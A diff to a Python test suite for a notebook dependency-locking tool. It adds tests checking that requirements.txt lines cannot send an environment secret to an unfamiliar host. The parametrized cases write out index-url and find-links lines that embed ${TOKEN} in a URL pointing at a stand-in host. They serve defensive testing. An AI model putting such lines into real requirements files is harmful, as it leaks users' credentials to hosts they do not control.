@@ -73,7 +73,8 @@ def make(make_facts: Any, kernel: Any, folder: Path, places: Places) -> Locking:
     """Locks what a requirements.txt beside the notebook asks for; all of it is imported."""
 
     async def made(*lines: str) -> Made:
-        names = tuple(re.split("[=>]", line)[0] for line in lines or ("mine>=1",))
+        asked = [line for line in lines or ("mine>=1",) if not line.startswith("-")]
+        names = tuple(re.split("[=>]", line)[0] for line in asked)
         facts: KernelFacts = make_facts(*(f"{n}==0.1" for n in names), python=str(kernel.python))
         (folder / "requirements.txt").write_text("\n".join((*(lines or ("mine>=1",)), "")))
         request = LockRequest(facts, folder, names, places, service_requirements=())
@@ -359,6 +360,41 @@ async def test_a_login_does_not_follow_where_an_index_sends(
         assert any(call.authorization == private.basic for call in private.asked)
         assert third.served() == {"mine"}
         assert {call.authorization for call in (*other.asked, *third.asked)} == {""}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--extra-index-url {scheme}://ship:${{TOKEN}}@{host}/simple",
+        "--index-url={scheme}://{host}/${{TOKEN}}/simple",
+        "--find-links {scheme}://{host}/?t=${{TOKEN}}",
+    ],
+)
+async def test_a_strangers_requirements_send_no_variable_to_a_host_of_theirs(
+    tmp_path: Path, public: PrivateIndex, make: Locking, monkeypatch: pytest.MonkeyPatch, line: str
+) -> None:
+    monkeypatch.setenv("TOKEN", PASSWORD)
+    monkeypatch.setenv("UV_DEFAULT_INDEX", public.url)
+    with serving(tmp_path / "strange", address="127.0.0.2") as strange:
+        text = line.format(scheme="http", host=strange.host)
+        _, findings = await make(text, "common>=1")
+        assert strange.asked == []
+    (told,) = [each for each in findings if each.code == "index-variable"]
+    assert told.severity == "block"
+    assert told.message == (
+        "requirements.txt, line 1: a variable of your environment would be sent to an address "
+        "that is none of your own package indexes (127.0.0.2)"
+    )
+
+
+async def test_a_variable_goes_to_an_index_of_ones_own(
+    private: PrivateIndex, make: Locking, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("LOGIN", private.with_login.partition("://")[2].partition("@")[0])
+    monkeypatch.setenv("UV_DEFAULT_INDEX", private.url)
+    made, _ = await make("mine>=1", f"--extra-index-url http://${{LOGIN}}@{private.host}/simple")
+    assert made is not None
+    assert made.packages == (("mine", "1.0"),)
 
 
 # What is looked for elsewhere
